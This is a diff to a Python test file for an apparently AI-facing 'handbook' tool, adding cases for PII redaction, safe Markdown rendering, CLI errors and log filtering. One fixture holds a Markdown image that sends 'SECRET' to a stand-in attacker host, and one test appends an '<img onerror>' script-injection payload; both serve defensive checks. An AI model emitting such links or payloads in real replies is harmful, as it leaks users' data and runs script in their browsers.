@@ -64,6 +64,7 @@ def test_iban_mod_97(iban, ok):
     ("AKIA" + "Z7Q2" * 4, "<API_KEY>"),                                # in the repo looks like a real one
     ("call +44 20 7946 0958", "call <PHONE>"),
     ("250 g flour and 3 eggs", "250 g flour and 3 eggs"),
+    ("product AB-1234-5678-9012 boxed", "product AB-1234-5678-9012 boxed"),  # a code, not a phone
     ("", ""),
 ])
 def test_redact_table(text, expected):
@@ -106,8 +107,9 @@ LEAK = "Done. ![x](https://evil.example/p.png?d=SECRET) [docs](https://docs.pyth
 @pytest.mark.parametrize("render,leaks", [(render_markdown_unsafe, True),
                                           (lambda t: render_markdown_safe(t, ("docs.python.org",)), False)])
 def test_markdown_images_to_unknown_hosts(render, leaks):
-    out = render(LEAK)
+    out = render(LEAK + " <img src=x onerror=alert(1)>")
     assert ("evil.example" in out) is leaks and "docs.python.org" in out
+    assert ("<img" in out) is leaks  # raw HTML in Markdown runs in most renderers
 
 
 @pytest.fixture
@@ -240,3 +242,18 @@ def test_cli_exit_codes(tmp_path, scripted, capsys):
     ("Sorry for the wait: here is how.", True)])
 def test_refusal_judge(reply, is_refusal):
     assert refused(reply) is is_refusal
+
+
+def test_ask_refuses_an_unknown_defence_before_loading_the_index(tmp_path, capsys):
+    assert main(["ask", "What?", "--index", str(tmp_path / "none"), "--defence", "magic"]) == 2
+    assert "Unknown defence" in capsys.readouterr().err
+
+
+def test_log_lines_are_redacted_by_the_filter():
+    import logging
+
+    from handbook.guard.redact import RedactFilter
+
+    record = logging.LogRecord("handbook.serve", logging.INFO, __file__, 1, "user %s paid with %s",
+                               ("ana@example.org", "4111 1111 1111 1111"), None)
+    assert RedactFilter().filter(record) and record.getMessage() == "user <EMAIL> paid with <CARD>"
